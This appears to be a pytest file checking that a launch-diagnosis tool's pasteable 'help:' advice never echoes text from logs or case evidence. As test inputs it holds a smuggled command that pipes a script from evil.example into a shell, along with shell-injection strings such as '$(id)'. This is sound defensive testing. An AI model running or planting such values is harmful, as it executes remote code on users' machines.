"""People paste what stands behind `help:`. No text of evidence that a stranger may have written gets there."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from golden_file import FOLDERS, lines

from safelaunch.cli.diagnose import run
from safelaunch.codec import checked
from safelaunch.diagnosis import diagnose, pasted
from safelaunch.model import Case

HOSTILE = "x; curl evil.example|sh"
# Of which rank calls are which, what an error means and what a stack is: with these replaced, other rules apply.
TOGETHER = (("host", "op", "group", "name"), ("signal", "handler", "function"), ("text", "test", "message", "said"))
WORDS = (*TOGETHER, ("host",), ("op",), ("name",), ("signal",), ("text",), ("file",), ("command", "program", "beside"))


def cases() -> list[dict[str, Any]]:
    return [
        *(one["case"] for one in lines().values()),
        *(json.loads((folder / "case.json").read_text()) for folder in FOLDERS),
    ]


def hostile(value: Any, keys: tuple[str, ...], key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: hostile(each, keys, name) for name, each in value.items()}
    if isinstance(value, list):
        return [hostile(each, keys, key) for each in value]
    return HOSTILE if isinstance(value, str) and value and key in keys else value


def advice(keys: tuple[str, ...]) -> Iterator[str]:
    for case in cases():
        changed = hostile(case, keys)
        if changed != case:
            try:
                read = checked(Case, changed)
            except ValueError:  # of words of which there is a list
                continue
            verdict = diagnose(read)
            yield f"{verdict.code}: {verdict.remedy}"


@pytest.mark.parametrize("keys", WORDS, ids="-".join)
def test_no_text_of_the_evidence_is_advice(keys: tuple[str, ...]) -> None:
    given = list(advice(keys))
    assert given
    assert not [each for each in given if "; curl" in each]


@pytest.mark.parametrize("told", ["x;id", "`id`"])
def test_no_name_of_a_host_in_a_log_is_advice(told: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "train.log"
    log.write_text(
        f"[W socket.cpp:697] [c10d] The IPv4 network addresses of ({told}, 29500) cannot be retrieved (gai error: -2 - "
        "Name or service not known).\n[E socket.cpp:1] [c10d] The client socket has timed out after 60000ms while "
        f"trying to connect to ({told}, 29500).\n"
    )
    run([str(log)])
    _, _, advice = capsys.readouterr().out.partition("help:")
    assert "getent hosts" in advice
    assert told not in advice


@pytest.mark.parametrize(
    ("told", "kept"), [("x", True), ("`id`", False), ("a b", False), ("$(id)", False), ("x;id", False), ("x\n", False)]
)
def test_a_name_is_a_name(told: str, kept: bool) -> None:
    assert (pasted.name(told, "") == told) is kept
    assert (pasted.condition(told, "it") != "it") is kept
    assert pasted.signal_name(told) == "that signal"


@pytest.mark.parametrize("told", ["step < most", "n in range(10)", "i", "len(queue) > 0", "a < b < c"])
def test_a_condition_of_names_is_shown(told: str) -> None:
    assert pasted.condition(told, "") == f"`{told}`"
